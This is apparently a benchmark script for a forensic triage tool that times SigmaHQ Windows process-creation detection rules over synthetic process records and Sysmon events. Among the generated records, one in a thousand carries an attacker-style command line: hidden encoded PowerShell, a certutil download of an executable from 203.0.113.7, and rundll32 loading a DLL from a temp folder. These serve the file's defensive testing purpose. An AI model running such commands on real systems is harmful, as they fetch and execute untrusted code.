#!/usr/bin/env -S npx tsx
// Sigma throughput: all of SigmaHQ's rules/windows/process_creation (vendored in
// test/fixtures/sigmahq) over 100,000 live process records and over 1,000,000 Windows events
// (Sysmon 1 process creations among other channels and IDs), each through `magpie triage` as a
// child process whose peak RSS is sampled. BENCH_PROCESSES / BENCH_EVENTS change the counts.
import { spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { cpus, release, tmpdir, totalmem } from 'node:os';
import { join } from 'node:path';
import { EvidenceWriter } from '../lib/evidence/writer.ts';
import type { RecordKind } from '../lib/definitions.ts';
import type { Plan, PlannedStep } from '../lib/plan.ts';
import { ROOT_DIR } from '../lib/paths.ts';
import { writeLines } from './bench-common.ts';
import { loadRuleSet } from '../lib/triage/rules.ts';

const PROCESSES = Number(process.env.BENCH_PROCESSES ?? 100_000);
const EVENTS = Number(process.env.BENCH_EVENTS ?? 1_000_000);
const RULES = join(ROOT_DIR, 'test', 'fixtures', 'sigmahq', 'rules', 'windows', 'process_creation');
const scratch = mkdtempSync(join(tmpdir(), 'magpie-bench-sigma-'));

// Ordinary programs and command lines; 1 in 1,000 is an attacker's (encoded PowerShell, certutil
// download, rundll32 from a temp folder), which SigmaHQ's rules are there to find.
const NORMAL = [
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'],
  ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'C:\\Windows\\System32\\services.exe'],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"', 'C:\\Windows\\explorer.exe'],
  ['C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', 'C:\\Windows\\System32\\userinit.exe'],
  ['C:\\Program Files\\Mozilla Firefox\\firefox.exe', '"C:\\Program Files\\Mozilla Firefox\\firefox.exe" -contentproc --channel=1234 tab', 'C:\\Program Files\\Mozilla Firefox\\firefox.exe'],
] as const;
const BAD = [
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', 'C:\\Windows\\explorer.exe'],
  ['C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Users\\bob\\AppData\\Local\\Temp\\x.dll,DllRegisterServer', 'C:\\Windows\\explorer.exe'],
] as const;
/** The parents every line names, as process records of their own (their pids). */
const PARENTS = [...new Set([...NORMAL, ...BAD].map((x) => x[2]))];
const pick = (i: number) => (i % 1000 === 999 ? BAD[(i / 1000) % BAD.length | 0] : NORMAL[i % NORMAL.length]);

function newFolder(name: string, kind: RecordKind, n: number, make: (i: number) => unknown): Promise<string> {
  const step: PlannedStep = { index: 1, id: kind, stepId: kind, description: kind, kind, timeoutSec: 1, continueOnError: true, admin: false, params: {}, tools: [], scripts: {}, source: 'bench' };
  const plan: Plan = { playbook: { name: 'bench', file: 'bench', sha256: '0'.repeat(64), params: {} }, steps: [step] };
  const w = EvidenceWriter.create({ root: join(scratch, name), caseId: 'bench', targetName: 'BENCH-SIGMA', transport: 'import', plan });
  const staged = join(scratch, `${name}-records`);
  mkdirSync(staged);
  writeLines(join(staged, 'records.jsonl'), n, make);
  return w.recordStep(step, { status: 'ok', reason: null, partial: false, os: 'windows', fetched: staged }).then(() => w.finish('complete'));
}

async function triage(dir: string): Promise<{ seconds: number; peak: number; findings: number; stderr: string }> {
  const child = spawn(process.execPath, [join(ROOT_DIR, 'bin', 'magpie.js'), 'triage', dir, '--json', '--no-builtin-rules', '--rules', RULES], { stdio: ['ignore', 'pipe', 'pipe'] });
  let out = '';
  let err = '';
  child.stdout.on('data', (d) => (out += d));
  child.stderr.on('data', (d) => (err += d));
  let peak = 0;
  const t0 = performance.now();
  const timer = setInterval(() => {
    try {
      const m = /VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${child.pid}/status`, 'utf8'));
      if (m) peak = Math.max(peak, Number(m[1]) / 1024);
    } catch {
      // ended
    }
  }, 100);
  const code = await new Promise<number | null>((r) => child.on('close', r));
  clearInterval(timer);
  if (code !== 0) throw new Error(`magpie triage failed (${code}): ${err.slice(-2000)}`);
  return { seconds: (performance.now() - t0) / 1000, peak, findings: JSON.parse(out).hosts[0].findings, stderr: err };
}

async function main() {
  const t0 = performance.now();
  const { rules } = loadRuleSet([RULES], false);
  const loadMs = performance.now() - t0;
  const indexed = rules.filter((r) => r.indexAtoms).length;
  const processes = await newFolder('processes', 'process', PROCESSES, (i) => {
    const start = new Date(1764115200000 + i * 1000).toISOString();
    if (i < PARENTS.length) return { pid: 100 + i, ppid: 4, name: PARENTS[i].split('\\').pop(), path: PARENTS[i], commandLine: PARENTS[i], user: 'CORP\\bob', startTime: new Date(1764115200000 - 3600_000).toISOString() };
    const [path, commandLine, parent] = pick(i);
    return { pid: 1000 + i, ppid: 100 + PARENTS.indexOf(parent), name: path.split('\\').pop(), path, commandLine, user: 'CORP\\bob', startTime: start, sha256: (i % 4096).toString(16).padStart(64, '0') };
  });
  // Events: half Sysmon 1, the rest network, file, registry events and Security logons.
  const OTHER = [
    ['Microsoft-Windows-Sysmon/Operational', 3, 'Microsoft-Windows-Sysmon'],
    ['Microsoft-Windows-Sysmon/Operational', 11, 'Microsoft-Windows-Sysmon'],
    ['Microsoft-Windows-Sysmon/Operational', 13, 'Microsoft-Windows-Sysmon'],
    ['Security', 4624, 'Microsoft-Windows-Security-Auditing'],
  ] as const;
  const events = await newFolder('events', 'event', EVENTS, (i) => {
    const time = new Date(1764115200000 + i * 10).toISOString();
    if (i % 2) {
      const [channel, eventId, provider] = OTHER[i % OTHER.length];
      return { channel, provider, eventId, time, computer: 'WS-042', recordId: i, data: { Image: 'C:\\Windows\\System32\\svchost.exe', TargetFilename: 'C:\\Windows\\Temp\\x.tmp', DestinationIp: '10.0.0.5', TargetObject: 'HKLM\\SOFTWARE\\x', LogonType: '3' } };
    }
    const [path, commandLine, parent] = pick(i >> 1);
    return { channel: 'Microsoft-Windows-Sysmon/Operational', provider: 'Microsoft-Windows-Sysmon', eventId: 1, time, computer: 'WS-042', recordId: i, data: { Image: path, CommandLine: commandLine, ParentImage: parent, ParentCommandLine: parent, User: 'CORP\\bob', IntegrityLevel: 'Medium', Hashes: 'MD5=0,SHA256=1', OriginalFileName: path.split('\\').pop(), CurrentDirectory: 'C:\\Users\\bob\\' } };
  });
  const p = await triage(processes);
  const e = await triage(events);
  const report = `## Sigma rules throughput (${new Date().toISOString().slice(0, 10)})

Machine: ${cpus().length} × ${cpus()[0]?.model ?? 'cpu'}, ${(totalmem() / 2 ** 30).toFixed(0)} GiB, Linux ${release()}, Node ${process.versions.node}

SigmaHQ's \`rules/windows/process_creation\` (${rules.length} rules, loaded and compiled in ${(loadMs / 1000).toFixed(1)} s) through \`magpie triage --no-builtin-rules --rules …\` as a child process (whole run: load, read, validate, match, timeline, report).

| input | wall time | throughput | peak RSS | findings |
|---|---|---|---|---|
| ${PROCESSES.toLocaleString('en')} live process records (1 in 1,000 an attacker's) | ${p.seconds.toFixed(1)} s | **${Math.round(PROCESSES / p.seconds).toLocaleString('en')} records/s** | **${p.peak.toFixed(0)} MB** | ${p.findings.toLocaleString('en')} |
| ${EVENTS.toLocaleString('en')} events (half Sysmon 1; Sysmon 3/11/13 and Security 4624) | ${e.seconds.toFixed(1)} s | **${Math.round(EVENTS / e.seconds).toLocaleString('en')} events/s** | **${e.peak.toFixed(0)} MB** | ${e.findings.toLocaleString('en')} |

Rules are compiled once and indexed: by record kind, events by channel and event ID, and each
rule by a text every match of it needs in some field (${indexed} of ${rules.length} rules), all of
them looked for in one Aho-Corasick pass per field; a record is tested only against the rules
whose text it has.
`;
  console.log(report);
  if (process.argv.includes('--write') || process.env.BENCH_WRITE) {
    const file = join(ROOT_DIR, 'docs', 'benchmarks.md');
    const text = readFileSync(file, 'utf8');
    const start = text.indexOf('## Sigma rules throughput');
    const end = start < 0 ? -1 : text.indexOf('\n## ', start + 1);
    const next = start < 0 ? text.replace('\n## Reading the figures', `\n${report}\n## Reading the figures`) : text.slice(0, start) + report + (end >= 0 ? text.slice(end) : '');
    writeFileSync(file, next);
    console.log(`updated ${file}`);
  }
  rmSync(scratch, { recursive: true, force: true });
}

await main();
